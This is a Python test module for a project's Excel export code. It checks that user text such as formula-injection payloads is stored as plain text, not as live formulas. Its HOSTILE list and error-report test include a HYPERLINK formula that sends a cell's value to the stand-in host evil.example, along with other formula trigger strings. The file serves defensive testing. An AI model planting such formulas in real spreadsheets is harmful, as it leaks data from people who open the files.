"""Formula injection (OWASP): every workbook the shared writer makes holds user text as text, never as a live
formula, and the text reads back unchanged on import."""

from __future__ import annotations

import datetime as dt
import re
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from zhiben.core.excel import columns as c
from zhiben.core.excel.kinds import Kind
from zhiben.core.excel.reader import read_sheet
from zhiben.core.excel.workbooks import error_report, formula_cells, put, row_cells, template_workbook, write_table

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
           "=1+1", "#N/A"]


class _Kind(Kind):
    code = "things"
    label = "Things"
    columns = [c.Column("name", "Name", required=True), c.Column("note", "Note")]

    def example_rows(self):
        return [{"name": "=1+2", "note": "@cmd"}]


def _saved(wb: Workbook) -> bytes:
    buffer = BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def test_openpyxl_alone_would_write_a_formula():
    """The hazard this module guards against, shown on the library itself."""
    wb = Workbook()
    wb.active["A1"] = HOSTILE[0]
    assert formula_cells(_saved(wb)) == ["xl/worksheets/sheet1.xml!A1"]


def test_an_exported_table_holds_text_not_formulas():
    buffer = BytesIO()
    write_table(buffer, title="=title", headers=["=h", "+h"], preamble=["=HYPERLINK(\"x\")", "-filters"],
                rows=[[text, 1, dt.date(2024, 3, 5)] for text in HOSTILE], date_columns=[2])
    content = buffer.getvalue()
    assert formula_cells(content) == []
    ws = load_workbook(BytesIO(content)).active
    cells = list(ws.iter_rows(min_row=4))
    assert [row[0].value for row in cells] == HOSTILE
    assert all(row[0].data_type == "s" for row in cells)
    assert [row[0].quotePrefix for row in cells] == [True] * 7 + [False]  # "#N/A" is text, not a trigger
    assert cells[0][1].value == 1 and cells[0][2].value == dt.datetime(2024, 3, 5)


def test_the_raw_xml_stores_the_text_as_an_inline_string():
    buffer = BytesIO()
    write_table(buffer, title="t", headers=["h"], rows=[["=1+1"]])
    import zipfile

    xml = zipfile.ZipFile(BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert re.search(r'<c r="A2" s="\d+" t="inlineStr"><is><t>=1\+1</t></is></c>', xml)
    assert "<f>" not in xml


def test_put_and_row_cells_on_ordinary_sheets():
    wb = Workbook()
    ws = wb.active
    put(ws, 1, 1, "=1+1")
    ws.append(row_cells(ws, ["=2+2", 3, None]))
    content = _saved(wb)
    assert formula_cells(content) == []
    values = list(load_workbook(BytesIO(content)).active.iter_rows(values_only=True))
    assert values[0][0] == "=1+1" and values[1][:2] == ("=2+2", 3)


def test_a_template_holds_no_formula_cells():
    content = template_workbook(_Kind())
    assert formula_cells(content) == []
    ws = load_workbook(BytesIO(content)).active
    assert ws["A2"].value == "=1+2" and ws["B2"].value == "@cmd"


def test_an_error_report_holds_no_formula_cells_even_if_the_upload_had_some():
    wb = Workbook()
    ws = wb.active
    ws.append(["Name", "Note"])
    ws.append(["=HYPERLINK(\"http://evil.example\",\"x\")", "=SUM(1,2)"])
    upload = _saved(wb)
    assert len(formula_cells(upload)) == 2
    report = error_report(BytesIO(upload), sheet_name=ws.title, header_row=1, errors=[
        {"row": 2, "col": 1, "column": "", "message": "=1+1 is wrong"}])
    assert formula_cells(report) == []
    values = list(load_workbook(BytesIO(report)).active.iter_rows(values_only=True))
    assert values[1] == ("=HYPERLINK(\"http://evil.example\",\"x\")", "=SUM(1,2)", "=1+1 is wrong")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_written_by_the_writer_reads_back_unchanged(text):
    buffer = BytesIO()
    write_table(buffer, title="t", headers=["Name", "Note"], rows=[[text, "x"]])
    buffer.seek(0)
    sheet = read_sheet(buffer, _Kind.columns)
    parsed = c.TEXT_200(sheet.rows[0][1]["name"], None)
    assert parsed == c.text_of(text)  # what any text cell becomes: surrounding blanks trimmed, nothing added
    assert parsed.lstrip("\t\r") == text.lstrip("\t\r")
